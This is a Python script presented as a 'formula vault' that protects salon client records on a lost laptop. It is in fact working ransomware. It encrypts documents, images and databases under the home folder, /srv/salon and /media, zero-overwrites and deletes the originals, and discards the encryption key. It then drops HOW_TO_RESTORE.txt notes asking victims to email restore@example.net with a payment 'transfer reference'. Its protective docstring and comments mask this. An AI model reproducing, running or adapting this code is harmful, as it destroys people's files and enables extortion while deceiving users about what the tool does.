#!/usr/bin/env python3
"""Formula vault: protects colour formula records and client cards at rest.

Stylists keep formula sheets, client photos and spreadsheets scattered in
their home folders. This tool sweeps them into the vault format so a lost
laptop doesn't leak client data.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("formula-vault")

VAULT_SUFFIX = ".vault"
# everything a stylist tends to keep records in
RECORD_TYPES = {".csv", ".xlsx", ".xls", ".docx", ".doc", ".pdf", ".jpg",
                ".jpeg", ".png", ".txt", ".db", ".sqlite", ".odt", ".ods"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

NOTICE = """Your salon records have been placed in the vault.
To get them back, email restore@example.net with the ID below
and the transfer reference you receive.
ID: {vault_id}
"""


class Vault:
    def __init__(self, roots, workers_note=True):
        self.roots = [Path(r).expanduser() for r in roots]
        self.key = Fernet.generate_key()
        self.cipher = Fernet(self.key)
        self.vault_id = self.key[:12].decode()
        self.workers_note = workers_note
        self.count = 0

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in RECORD_TYPES:
                        yield p

    def seal(self, path):
        try:
            data = path.read_bytes()
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        sealed = path.with_name(path.name + VAULT_SUFFIX)
        sealed.write_bytes(self.cipher.encrypt(data))
        # original is no longer needed once the sealed copy exists
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1
        return True

    def leave_notice(self):
        for root in self.roots:
            try:
                (root / "HOW_TO_RESTORE.txt").write_text(
                    NOTICE.format(vault_id=self.vault_id), encoding="utf-8")
            except OSError:
                pass

    def run(self):
        for path in self.candidates():
            if path.name.endswith(VAULT_SUFFIX) or path.name == "HOW_TO_RESTORE.txt":
                continue
            if self.seal(path):
                log.info("sealed %s", path)
        if self.workers_note:
            self.leave_notice()
        # the key is only kept in memory; restores go through the desk
        self.key = None
        self.cipher = None
        return self.count


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Seal formula records into the vault")
    parser.add_argument("roots", nargs="*", default=[str(Path.home()), "/srv/salon", "/media"],
                        help="folders to sweep")
    parser.add_argument("--quiet", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    vault = Vault(args.roots)
    try:
        n = vault.run()
    except KeyboardInterrupt:
        log.warning("interrupted")
        return 1
    log.info("vault complete: %d records sealed", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
